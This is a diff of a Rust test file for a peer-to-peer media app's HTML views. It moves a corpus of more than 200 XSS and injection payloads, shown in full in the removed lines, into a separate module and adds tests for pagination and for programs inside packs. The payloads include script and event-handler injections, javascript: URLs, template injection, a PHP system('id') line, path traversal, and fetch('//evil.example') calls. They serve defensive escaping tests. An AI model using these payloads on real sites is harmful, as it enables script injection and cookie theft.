@@ -1,14 +1,17 @@
 //! Every view with nothing, with what is usual, and with what an enemy would write: whatever others say stays text.
 
+#[path = "payloads.rs"]
+mod payloads;
+
 use super::format::bytes;
 use super::shelf::{self, Asked, Front, Listing, Row};
-use super::{first_run, key, layout, node, people, player, publish, seeding, text, why, work};
-use crate::driver::Download;
+use super::{first_run, handed, key, layout, node, people, player, publish, seeding, text, why, work};
+use crate::driver::{Download, Job};
 use crate::follow::{Found as FoundIn, Lead, ListedBy};
 use crate::http;
 use crate::settings::{Origin, Setting};
 use heirloom_core::command::CommandError;
-use heirloom_core::fitting::{Filled, FilledFile};
+use heirloom_core::fitting::{Filled, FilledFile, Flag};
 use heirloom_core::receipts::Received;
 use heirloom_core::settings::Preset;
 use heirloom_core::views::{self, StarterState};
@@ -19,71 +22,9 @@ use heirloom_proto::time::DAY_MS;
 use heirloom_proto::{Infohash, Key, SecretKey, Timestamp, WorkId};
 use html5gum::{Token, Tokenizer};
 use maud::Markup;
+use payloads::{PAYLOADS_MIN, payloads};
 use serde_json::json;
 use std::collections::{BTreeMap, BTreeSet};
-
-/// Least payloads that the corpus must hold.
-const PAYLOADS_MIN: usize = 200;
-
-fn payloads() -> Vec<String> {
-    let scripts = ["alert(1)", "fetch('//evil.example')", "parent.document.cookie"];
-    let openers =
-        ["", "\">", "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "</bdi>", "]]>", "</svg>"];
-    let bodies = [
-        "<script>@</script>",
-        "<ScRiPt src=//evil.example></ScRiPt>",
-        "<img src=x onerror=@>",
-        "<svg/onload=@>",
-        "<svg><script>@</script></svg>",
-        "<iframe srcdoc='<script>@</script>'>",
-        "<body onload=@>",
-        "<a href=javascript:@>x</a>",
-        "<math><mi xlink:href=javascript:@>",
-        "<details open ontoggle=@>",
-        "<input autofocus onfocus=@>",
-        "<video><source onerror=@>",
-        "<base href=//evil.example>",
-        "<meta http-equiv=refresh content=0;url=javascript:@>",
-        "<link rel=stylesheet href=//evil.example>",
-        "<style>@import '//evil.example';</style>",
-        "<form action=//evil.example><button>",
-    ];
-    let mut all: Vec<String> = Vec::new();
-    for (at, opener) in openers.iter().enumerate() {
-        for (number, body) in bodies.iter().enumerate() {
-            all.push(format!("{opener}{}", body.replace('@', scripts[(at + number) % scripts.len()])));
-        }
-    }
-    for plain in [
-        "\" onmouseover=alert(1) x=\"",
-        "' onmouseover=alert(1) x='",
-        "` onmouseover=alert(1)",
-        "\" autofocus onfocus=alert(1) \"",
-        "javascript:alert(1)",
-        "JaVaScRiPt:alert(1)",
-        "java\tscript:alert(1)",
-        "data:text/html,<script>alert(1)</script>",
-        "vbscript:msgbox(1)",
-        "&#60;script&#62;alert(1)&#60;/script&#62;",
-        "&lt;script&gt;alert(1)&lt;/script&gt;",
-        "%3Cscript%3Ealert(1)%3C/script%3E",
-        "\u{ff1c}script\u{ff1e}alert(1)",
-        "<\u{0}script>alert(1)</script>",
-        "{{constructor.constructor('alert(1)')()}}",
-        "${alert(1)}",
-        "<!--#exec cmd=\"id\"-->",
-        "<?php system('id'); ?>",
-        "<%= 7 * 7 %>",
-        "\u{202e}txet sdrawkcab<script>",
-        "\\\"><script>alert(1)</script>",
-        "\n\r<script>alert(1)</script>",
-        "<<script>script>alert(1)<</script>/script>",
-        "../../etc/passwd\"><script>",
-    ] {
-        all.push(plain.to_owned());
-    }
-    all
-}
 
 fn secret(number: u8) -> Key {
     SecretKey::from_seed(&[number; 32]).public()
@@ -116,6 +57,7 @@ fn release(said: &str, band: Band) -> views::Release {
             ..Filled::default()
         },
         flags: Vec::new(),
+        is_pack: false,
         licence: said.into(),
         trackers: Vec::new(),
         web_seeds: Vec::new(),
@@ -302,6 +244,11 @@ fn setting(said: &str, origin: Origin, is_live: bool) -> Setting {
     Setting { name, value, origin, default, env, about, is_live, is_switch: false, next }
 }
 
+fn elsewhere(said: &str) -> handed::Elsewhere {
+    let download = Download { state: "failed", ..download(said) };
+    handed::Elsewhere { download, client: "qBittorrent", trouble: Some(said.to_owned()) }
+}
+
 fn download(said: &str) -> Download {
     Download {
         infohash: Infohash([7; 20]),
@@ -311,6 +258,10 @@ fn download(said: &str) -> Download {
         total: 10,
         ..Download::default()
     }
+}
+
+fn job(said: &str) -> Job {
+    Job { job: 4, source: said.into(), bytes: 5, total: 10 }
 }
 
 fn front(said: &str) -> Front {
@@ -383,6 +334,7 @@ fn every_view(said: &str) -> Vec<(&'static str, Markup)> {
         follows: vec![follow_of(said)],
         trust: vec![trust_row(said, Band::Vouched), trust_row(said, Band::Distrusted)],
         starter: Some(StarterState::Dropped),
+        asked: people::Asked::default(),
     };
     let shown = key::Shown {
         about: the_about(said, false),
@@ -390,6 +342,7 @@ fn every_view(said: &str) -> Vec<(&'static str, Markup)> {
         names: names(said),
         me: secret(9),
         is_followed: false,
+        asked: key::Asked::default(),
     };
     let playing = player::Playing {
         infohash: Infohash([7; 20]),
@@ -400,6 +353,7 @@ fn every_view(said: &str) -> Vec<(&'static str, Markup)> {
     };
     let seeded = seeding::Seeding {
         downloads: vec![download(said)],
+        handed: vec![elsewhere(said)],
         rows: vec![ledger_row(said, 1, 100)],
         days: (1..=12).map(|number| ledger_row(said, number, 100 - u64::from(number))).collect(),
         usage: views::Usage::default(),
@@ -432,7 +386,7 @@ fn every_view(said: &str) -> Vec<(&'static str, Markup)> {
         ("key", key::render(&shown)),
         ("own key", key::render(&key::Shown { about: the_about(said, true), ..shown })),
         ("seeding", seeding::render(&seeded)),
-        ("publish", publish::render(&the_about(said, true))),
+        ("publish", publish::render(&the_about(said, true), &[job(said)], publish::Mine::default())),
         ("check of a path", publish::render_check(&checked(said, publish::Source::Path(said.into())))),
         ("check of a torrent", publish::render_check(&checked(said, publish::Source::Torrent(Box::new(torrent))))),
         (
@@ -493,6 +447,28 @@ fn nothing_that_others_wrote_becomes_markup() {
             }
         }
     }
+}
+
+#[test]
+fn long_lists_of_people_go_on_by_pages() {
+    let follows: Vec<views::Follow> = (0..120).map(|number| follow_of(&format!("Somebody {number}."))).collect();
+    let many = |asked| people::People {
+        me: me("Alice"),
+        follows: follows.clone(),
+        trust: (0..60).map(|number| trust_row(&format!("Bad {number}."), Band::Distrusted)).collect(),
+        starter: None,
+        asked,
+    };
+    let first = people::render(&many(people::Asked::default())).0;
+    assert!(first.contains("Somebody 49.") && !first.contains("Somebody 50."), "fifty on a page");
+    assert!(first.contains("/people?follows=2&amp;voices=0&amp;distrusted=0#follows"), "{first}");
+    assert!(first.contains("Bad 49.") && !first.contains("Bad 50."));
+    let last =
+        people::render(&many(serde_json::from_value(json!({ "follows": 3, "distrusted": 2 })).expect("asked"))).0;
+    assert!(last.contains("Somebody 119.") && !last.contains("Somebody 99."), "{last}");
+    assert!(last.contains("Bad 59.") && last.contains("/people?follows=3&amp;voices=0&amp;distrusted=1#distrusted"));
+    let key = every_view("A quiet title").into_iter().find(|(view, _)| *view == "key").expect("the view").1.0;
+    assert!(key.contains("?listings=2&amp;attestations=0&amp;verdicts=0#listings"), "300 listings: {key}");
 }
 
 #[test]
@@ -563,13 +539,20 @@ fn nothing_yet_is_said_in_words() {
     assert!(
         html.contains(text::NO_RELEASES) && html.contains(text::NO_OVERVIEW) && html.contains(text::ASKING_NETWORK)
     );
-    let nobody = people::People { me: me(""), follows: Vec::new(), trust: Vec::new(), starter: None };
+    let nobody = people::People {
+        me: me(""),
+        follows: Vec::new(),
+        trust: Vec::new(),
+        starter: None,
+        asked: people::Asked::default(),
+    };
     let html = people::render(&nobody).0;
     assert!(
         html.contains(text::FOLLOWS_NOBODY) && html.contains(text::NO_NAME) && html.contains(text::DISTRUSTS_NOBODY)
     );
     let idle = seeding::Seeding {
         downloads: vec![],
+        handed: Vec::new(),
         rows: vec![],
         days: vec![],
         usage: views::Usage::default(),
@@ -608,6 +591,26 @@ fn a_distrusted_release_is_not_played_and_got_only_after_a_question() {
     let hidden = work::Around { shows_all: false, ..around() };
     let html = work::render(&bad, &hidden).0;
     assert!(!html.contains(text::GET_ANYWAY) && html.contains(&text::distrusted_hidden(1)));
+}
+
+#[test]
+fn of_a_pack_only_what_may_harm_is_not_played() {
+    let program =
+        FilledFile { index: 2, path: "codec.exe".into(), ..release("Film", Band::Trusted).details.files[0].clone() };
+    let mut pack = release("Film", Band::Trusted);
+    pack.flags = vec![Flag::Program { path: program.path.clone() }];
+    pack.details.files.push(program);
+    let shown = |pack: &views::Release| {
+        let work = views::Work { releases: vec![pack.clone()], episodes: vec![], ..the_work("Film") };
+        work::render(&work, &around()).0
+    };
+    let html = shown(&pack);
+    assert!(!html.contains("/play/") && html.contains(text::GET_ANYWAY), "all of it is refused: {html}");
+    pack.is_pack = true;
+    let html = shown(&pack);
+    assert!(html.contains(text::LEFT_OUT) && !html.contains(text::GET_ANYWAY), "{html}");
+    let of = |index: u32| format!("/play/{}/{index}\"", pack.infohash);
+    assert!(html.contains(&of(0)) && !html.contains(&of(2)), "{html}");
 }
 
 #[test]
@@ -660,6 +663,7 @@ fn the_plot_shows_four_weeks_and_no_more() {
     let rows: Vec<_> = [60_u64, 73, 100].into_iter().map(|day| ledger_row("Alice", 1, day)).collect();
     let seeded = seeding::Seeding {
         downloads: vec![],
+        handed: Vec::new(),
         rows: vec![ledger_row("Alice", 1, 60)],
         days: rows,
         usage: views::Usage::default(),
